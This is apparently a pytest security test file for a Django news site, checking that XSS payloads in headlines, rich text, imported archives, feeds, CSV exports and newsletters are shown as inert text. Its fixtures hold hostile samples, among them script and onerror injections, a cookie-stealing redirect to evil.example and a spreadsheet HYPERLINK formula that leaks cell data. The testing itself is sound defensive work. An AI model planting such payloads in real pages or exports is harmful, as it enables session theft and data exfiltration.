"""Hostile text in what the site publishes: headlines, leads, rich text, imported pages, entities, feeds."""

import csv
import io
import json

import feedparser
import pytest
from django.urls import reverse
from lxml import html as lxml_html

from tests.archive.helpers import import_archive
from tests.conftest import admin_article_form, make_article
from tests.security.hostile import XSS_PAYLOADS, assert_inert, texts
from trendwatch.entities.models import Entity
from trendwatch.publishing.models import ArticleIndexPage, ArticlePage, WeeklyIssue

pytestmark = pytest.mark.django_db

READER_PAGES = ["/en/", "/en/articles/", "/en/trends/security/", "/en/weeks/2016-12-12/", "/en/archive/2016/12/"]


def page(client, url):
    response = client.get(url)
    assert response.status_code == 200, url
    markup = response.content.decode()
    assert_inert(markup)
    return markup


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_a_hostile_headline_and_lead_read_as_text_everywhere(client, payload):
    hostile = make_article(f"Latvia {payload}", lead=f"Lead {payload}")
    neighbour = make_article("Latvia and Belarus talk about the border", published="2016-12-13 10:00", trend="belarus-west")

    article_page = page(client, hostile.url)
    assert texts(article_page, "//h1") == [f"Latvia {payload}"]
    assert texts(article_page, "//title")[0].startswith(f"Latvia {payload} ·")
    assert texts(article_page, "//meta[@name='description']/@content") == [f"Lead {payload}"]
    assert texts(article_page, "//p[@class='article__lead']") == [f"Lead {payload}"]
    # The neighbour's similar box quotes the hostile headline and lead.
    similar_box = page(client, neighbour.url)
    assert f"Latvia {payload}" in texts(similar_box, "//section[@class='similar']//h3")
    for url in READER_PAGES:
        assert f"Latvia {payload}" in " ".join(texts(page(client, url), "//main")), url


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_search_results_mark_words_without_unescaping_a_hostile_article(client, payload):
    # An editor typed the payload as text: the editor stores it escaped, as here.
    escaped = payload.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    make_article(f"Latvia {payload}", body=f"<p>Latvia {escaped} and more about Latvia.</p>")
    markup = page(client, "/en/search/?q=Latvia")
    assert texts(markup, "//ol[@class='search-results']//h2") == [f"Latvia {payload}"]
    passage = texts(markup, "//p[@class='search-result__passage']")[0]
    assert f"Latvia {payload} and more" in passage
    document = lxml_html.document_fromstring(markup)
    assert {mark.text for mark in document.xpath("//mark")} == {"Latvia"}


@pytest.fixture
def editor_client(client, django_user_model):
    client.force_login(django_user_model.objects.create_superuser("editor", password="a-long-test-password"))
    return client


def article_form(body):
    return admin_article_form(title="Latvia and the airspace", slug="latvia-airspace", lead="A lead.", body=body)


def add_article(client, body):
    index = ArticleIndexPage.objects.get(locale__language_code="en")
    return client.post(reverse("wagtailadmin_pages:add", args=("publishing", "articlepage", index.pk)), article_form(body))


def test_rich_text_posted_with_script_and_javascript_links_is_published_harmless(editor_client, client):
    """A hand-made post of the editor's widget: raw markup as text, a javascript: link, a made-up block type.

    The editor's converter keeps the text, drops the link's address and the block it has no rule for.
    """
    content_state = {
        "blocks": [
            {"key": "a1", "type": "unstyled", "depth": 0, "text": '<script>alert("body")</script> Riga',
             "inlineStyleRanges": [], "entityRanges": [{"offset": 31, "length": 4, "key": 0}], "data": {}},
            {"key": "b2", "type": "<img src=x onerror=alert(1)>", "depth": 0, "text": "Odd block",
             "inlineStyleRanges": [], "entityRanges": [], "data": {}},
        ],
        "entityMap": {"0": {"type": "LINK", "mutability": "MUTABLE", "data": {"url": "javascript:alert(document.cookie)"}}},
    }
    response = add_article(editor_client, json.dumps(content_state))
    assert response.status_code == 302
    markup = page(client, ArticlePage.objects.get(slug="latvia-airspace").url)
    body = texts(markup, "//div[@class='article__body']")[0]
    assert '<script>alert("body")</script> Riga' in body
    assert "Odd block" not in body


@pytest.mark.parametrize(
    "body", ["<p>Riga</p><script>alert(1)</script><img src=x onerror=alert(1)>", '{"blocks": "<script>"}', "[1, 2"]
)
def test_a_body_the_editor_cannot_read_is_a_form_error_and_saves_nothing(editor_client, body):
    response = add_article(editor_client, body)
    assert response.status_code == 200
    assert response.context["form"].errors["body"]
    assert not ArticlePage.objects.filter(slug="latvia-airspace").exists()


HOSTILE_BODY = (
    '<p onclick="steal()">Riga talks.<script>alert(1)</script></p>'
    '<p><a href="javascript:alert(1)">a link</a> <img src=x onerror=alert(2)> <iframe src="https://evil.example"></iframe></p>'
    '<p style="background:url(javascript:alert(3))">Second <a href="https://mfa.gov.by/" onmouseover="alert(4)">paragraph</a>.</p>'
    "<svg><script>alert(5)</script></svg><form action=\"https://evil.example\"><input name=password></form>"
)


def imported_page(client):
    article = ArticlePage.objects.get()
    assert article.live
    markup = page(client, article.url)
    return article, markup


def test_a_hostile_jsonl_archive_imports_harmless(tmp_path, client):
    record = {
        "type": "article", "key": "hostile-1", "language": "en", "status": "published",
        "title": '<script>alert("title")</script> Riga talks', "lead": "<img src=x onerror=alert(1)> Lead",
        "body": HOSTILE_BODY, "published_at": "2016-12-12T10:22:00", "trend": "security", "direction": "improved",
    }
    path = tmp_path / "archive.jsonl"
    path.write_text(
        json.dumps({"type": "archive", "format": "trendwatch-archive", "version": 1}) + "\n" + json.dumps(record) + "\n"
    )
    succeeded, _out, err = import_archive(path, format="jsonl")
    assert succeeded, err
    article, markup = imported_page(client)
    assert texts(markup, "//h1") == ['<script>alert("title")</script> Riga talks']
    assert texts(markup, "//p[@class='article__lead']") == ["<img src=x onerror=alert(1)> Lead"]
    assert_body_kept_its_text(markup)


def assert_body_kept_its_text(markup):
    body = texts(markup, "//div[@class='article__body']")[0]
    for words in ["Riga talks.", "a link", "Second paragraph."]:
        assert words in " ".join(body.split())
    assert "alert" not in body  # script contents are dropped with the script


def test_a_hostile_wordpress_export_imports_harmless(tmp_path, client):
    path = tmp_path / "export.xml"
    path.write_text(
        f"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"
  xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:wp="http://wordpress.org/export/1.2/">
<channel><title>Monitor</title><link>https://monitor.example</link><language>en-GB</language>
  <item>
    <title>&lt;script&gt;alert("title")&lt;/script&gt; Riga talks</title>
    <link>https://monitor.example/?p=1</link>
    <content:encoded><![CDATA[{HOSTILE_BODY}]]></content:encoded>
    <wp:post_id>1</wp:post_id>
    <wp:post_date><![CDATA[2016-12-12 10:22:00]]></wp:post_date>
    <wp:status><![CDATA[publish]]></wp:status>
    <wp:post_type><![CDATA[post]]></wp:post_type>
  </item>
</channel></rss>"""
    )
    succeeded, _out, err = import_archive(path, format="wxr", default_trend="security")
    assert succeeded, err
    _article, markup = imported_page(client)
    assert texts(markup, "//h1") == ['<script>alert("title")</script> Riga talks']
    assert_body_kept_its_text(markup)


def test_a_hostile_saved_page_imports_harmless(tmp_path, client):
    path = tmp_path / "page.html"
    path.write_text(
        """<!DOCTYPE html><html lang="en"><head><title>Riga talks &lt;img src=x onerror=alert(1)&gt;</title>
<meta property="article:published_time" content="2016-12-12T10:22:00+03:00">
<script>document.location="https://evil.example/?"+document.cookie</script></head>
<body><article><h1>Riga talks &lt;img src=x onerror=alert(1)&gt;</h1>
<p onclick="steal()">The ministries met in Riga.<script>alert(1)</script> They talked about airspace control.</p>
<p><a href="javascript:alert(1)">A link</a> to the statement. <img src=x onerror=alert(2)> It was short and clear.</p>
<iframe src="https://evil.example"></iframe>
<p style="background:url(javascript:alert(3))">Second <a href="https://mfa.gov.by/" onmouseover="alert(4)">paragraph</a>
of the commentary, with some more words about the border crossings.</p>
</article></body></html>"""
    )
    succeeded, _out, err = import_archive(path, format="html", default_trend="security")
    assert succeeded, err
    _article, markup = imported_page(client)
    assert texts(markup, "//h1") == ["Riga talks <img src=x onerror=alert(1)>"]
    body = " ".join(texts(markup, "//div[@class='article__body']")[0].split())
    assert "A link to the statement." in body and "Second paragraph of the commentary" in body
    assert "alert" not in body and "cookie" not in body


def test_a_hostile_text_capture_imports_as_text(tmp_path, client):
    path = tmp_path / "capture.txt"
    path.write_text(
        '<script>alert("title")</script> Riga talks\n'
        "December 12, 2016 10:22\n\n"
        "<img src=x onerror=alert(1)> The ministries met.\n\n"
        '<a href="javascript:alert(2)">Second</a> paragraph.\n'
    )
    succeeded, _out, err = import_archive(path, format="seedtext", default_trend="security")
    assert succeeded, err
    _article, markup = imported_page(client)
    assert texts(markup, "//h1") == ['<script>alert("title")</script> Riga talks']
    # A text capture is text: markup in it is shown as the characters it is made of.
    assert '<a href="javascript:alert(2)">Second</a> paragraph.' in texts(markup, "//div[@class='article__body']")[0]


@pytest.mark.parametrize("kind", ["rss", "atom"])
def test_feeds_carry_hostile_headlines_and_leads_as_text(client, kind):
    title = '</title><script>alert(1)</script> Riga & "talks" ]]>'
    lead = "<img src=x onerror=alert(1)> Lead & more"
    make_article(title, lead=lead)
    response = client.get(f"/en/feeds/{kind}/")
    assert response.status_code == 200
    feed = feedparser.parse(response.content)
    assert not feed.bozo, feed.get("bozo_exception")
    entry = feed.entries[0]
    assert entry.title == title
    # Feed readers show the summary as HTML: the lead must arrive as text, not as an element.
    shown = lxml_html.fragment_fromstring(entry.summary, create_parent="div")
    assert shown.xpath("//img") == []
    assert lead in shown.text_content()


def test_hostile_entity_descriptions_read_as_text(client):
    Entity.objects.create(
        kind="person", slug="anna-karpenka", name_en="Anna Karpenka", description_en='<script>alert(1)</script> "analyst"'
    )
    markup = page(client, "/en/entities/anna-karpenka/")
    assert '<script>alert(1)</script> "analyst"' in " ".join(texts(markup, "//main"))


def test_a_formula_in_a_headline_reaches_spreadsheets_as_text(client):
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    make_article(formula)
    response = client.get("/en/dashboard/trends.csv", {"start": "2016-12-12", "end": "2016-12-12"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    headlines = [row[rows[0].index("headline")] for row in rows[1:]]
    assert "'" + formula in headlines
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


def test_the_weekly_letter_shows_a_hostile_headline_and_lead_as_text():
    from trendwatch.newsletter.letters import compose, render_letter

    payload = '<img src=x onerror=alert(1)><a href="javascript:alert(2)">x</a>'
    make_article(f"Latvia {payload}", lead=f"Lead {payload}")
    subject, text, html = render_letter(compose(WeeklyIssue.objects.get(week_start="2016-12-12"), "en"), "en")
    assert_inert(html)
    letter_text = " ".join(texts(html, "//body"))
    assert f"Latvia {payload}" in letter_text and f"Lead {payload}" in letter_text
    # The plain-text part is text: the characters as written.
    assert f"Latvia {payload}" in text
    assert "\n" not in subject
